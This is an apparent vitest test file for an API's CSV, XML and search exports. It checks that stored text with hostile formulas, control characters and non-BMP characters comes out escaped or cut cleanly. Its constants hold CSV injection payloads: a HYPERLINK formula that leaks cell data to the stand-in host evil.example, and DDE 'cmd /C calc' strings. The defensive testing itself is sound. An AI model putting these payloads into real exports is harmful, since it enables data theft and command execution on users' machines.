/**
 * Stored text that breaks the files and answers built from it (issue 14, items 1-3):
 * a recommendation that begins as a spreadsheet formula, a vertical tab (Word's
 * manual line break) and other characters XML 1.0 forbids in a paragraph and a
 * name, and characters outside the BMP where the API cuts text for display. The
 * seed is loaded, then its stored text is changed in the database, as a report
 * with such text would have left it; every endpoint that writes the text must
 * still produce a file that its readers accept and an answer with whole characters.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import type { Express } from 'express';
import type { Driver } from 'neo4j-driver';
import { xmlErrors } from '../../../setup/xml.ts';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadSeed } from '../../../setup/seed.ts';
import { seededApp, textBody } from './helpers.ts';
import { SNIPPET_WIDTH } from '../../../../server/search/snippet.ts';

let driver: Driver;
let app: Express;

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Details")';
const EVIDENCE_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";
const NAME_FORMULA = "\u3000-2+3+cmd|' /C calc'!A0";
/** A paragraph with XML 1.0's forbidden characters: Word's line break (VT), a form feed, a bell, U+FFFF. */
const XML_HOSTILE = 'first line\u000Bsecond line\u000Cnext page\u0007\uFFFF end';
/** 10 + (SNIPPET_WIDTH - 11) clusters, then an emoji on the last place before "…": a UTF-16 cut there halves it. */
const SEARCH_FILL = SNIPPET_WIDTH - 11;
const SEARCH_TEXT = `zebrafish ${'犯'.repeat(SEARCH_FILL)}😀${'罪'.repeat(40)}`;
/** 199 units, then a CJK character outside the BMP on the 200th: a UTF-16 cut at 200 halves it. */
const DETAILS_TEXT = `${'x'.repeat(199)}𠮷${'y'.repeat(40)}`;

let recommendation: string;
let detailsParagraph: string;

beforeAll(async () => {
  ({ driver, app } = await seededApp({ RATE_LIMIT_SEARCH: '0' }));
  const { records } = await driver.executeQuery(
    `MATCH (r:Recommendation)-[c:CITES]->(i:Instrument) WITH r, c, i ORDER BY r.id LIMIT 1
     SET r.text = $formula + r.text, c.evidence = $evidence, i.name_en = $name
     RETURN r.id AS id`,
    { formula: FORMULA, evidence: EVIDENCE_FORMULA, name: NAME_FORMULA },
  );
  recommendation = records[0]!.get('id') as string;
  await driver.executeQuery(
    `MATCH (p:Paragraph) WITH p ORDER BY p.id SKIP 3 LIMIT 1 SET p.text = $text
     WITH 1 AS one MATCH (s:State {id: 'state:ARG'}) SET s.name_en = 'Argentina\u0001\u000B'`,
    { text: XML_HOSTILE },
  );
  await driver.executeQuery('MATCH (p:Paragraph) WITH p ORDER BY p.id SKIP 5 LIMIT 1 SET p.text = $text', { text: SEARCH_TEXT });
  const mentioned = await driver.executeQuery(
    `MATCH (p:Paragraph)-[:MENTIONS]->(:State {id: 'state:ARG'}) WITH p ORDER BY p.id LIMIT 1 SET p.text = $text RETURN p.id AS id`,
    { text: DETAILS_TEXT },
  );
  detailsParagraph = mentioned.records[0]!.get('id') as string;
});
afterAll(async () => {
  await loadSeed(driver); // the next file finds the seed as it was
  await driver.close();
});

/** As a spreadsheet decides: a text cell is evaluated when it begins, after what an import trims, with = + - @ (or tab, CR, LF, NUL). */
function evaluated(cell: string): boolean {
  const rest = cell.replace(/^[\s\p{Cc}\p{Cf}]*/u, '');
  return /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\n\0]/.test(cell) || /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(rest);
}

function csvCells(text: string): string[][] {
  return parseCsv(text.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
}

describe('CSV downloads', () => {
  it('/api/citations?format=csv writes the formula-led recommendation, evidence and name as text', async () => {
    const res = await request(app).get('/api/citations?format=csv').expect(200);
    const rows = csvCells(res.text);
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf('recommendation')] === recommendation)!;
    expect(row[header.indexOf('text')]!.startsWith(`'${FORMULA}`)).toBe(true);
    expect(row[header.indexOf('evidence')]).toBe(`'${EVIDENCE_FORMULA}`);
    expect(row[header.indexOf('instrument_name_en')]).toBe(`'${NAME_FORMULA}`);
    for (const cells of rows) for (const cell of cells) expect(evaluated(cell), cell).toBe(false);
  });

  it('/api/export?format=csv (both tables) holds no cell a spreadsheet would evaluate', async () => {
    for (const table of ['nodes', 'relationships']) {
      const res = await request(app).get(`/api/export?format=csv&table=${table}`).expect(200);
      const rows = csvCells(res.text);
      expect(rows.length).toBeGreaterThan(100);
      for (const cells of rows) for (const cell of cells) expect(evaluated(cell), `${table}: ${cell}`).toBe(false);
    }
    const rels = csvCells((await request(app).get('/api/export?format=csv&table=relationships').expect(200)).text);
    expect(rels.some((cells) => cells.includes(`'${EVIDENCE_FORMULA}`))).toBe(true);
  });
});

describe('XML exports', () => {
  it('GEXF and GraphML of the whole graph are well-formed XML 1.0 with the text kept readable', async () => {
    for (const format of ['gexf', 'graphml']) {
      const res = await request(app).get(`/api/export?format=${format}`).buffer(true).parse(textBody).expect(200);
      const xml = res.body as string;
      expect(xmlErrors(xml), format).toEqual([]);
      // The vertical tab and form feed became line breaks; the rest of the text is there.
      expect(xml).toMatch(/first line(\n|&#xA;)second line(\n|&#xA;)next page/);
      expect(xml).toContain('Argentina');
    }
  });
});

describe('text cut for display', () => {
  /** Every string in a parsed JSON answer, so none can hide a lone surrogate. */
  function strings(value: unknown, out: string[] = []): string[] {
    if (typeof value === 'string') out.push(value);
    else if (Array.isArray(value)) for (const v of value) strings(v, out);
    else if (value && typeof value === 'object') for (const v of Object.values(value)) strings(v, out);
    return out;
  }
  const LONE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

  it('a search snippet ends between whole characters', async () => {
    const res = await request(app).get('/api/search?q=zebrafish').expect(200);
    const hit = (res.body.results as { snippet?: string }[]).find((r) => r.snippet?.startsWith('zebrafish'));
    expect(hit, JSON.stringify(res.body)).toBeDefined();
    expect(hit!.snippet).toBe(`zebrafish ${'犯'.repeat(SEARCH_FILL)}…`);
    for (const s of strings(res.body)) expect(LONE.test(s), s).toBe(false);
  });

  it('a paragraph begun in node details ends between whole characters', async () => {
    const res = await request(app)
      .get(`/api/nodes/${encodeURIComponent('state:ARG')}?limit=1000`)
      .expect(200);
    const texts = (res.body.relationships as { items: { other: { id: string; text: string | null } }[] }[]).flatMap((g) => g.items.map((i) => i.other));
    const cut = texts.find((o) => o.id === detailsParagraph);
    expect(cut?.text).toBe(`${'x'.repeat(199)}…`);
    for (const s of strings(res.body)) expect(LONE.test(s), s.slice(0, 40)).toBe(false);
  });
});
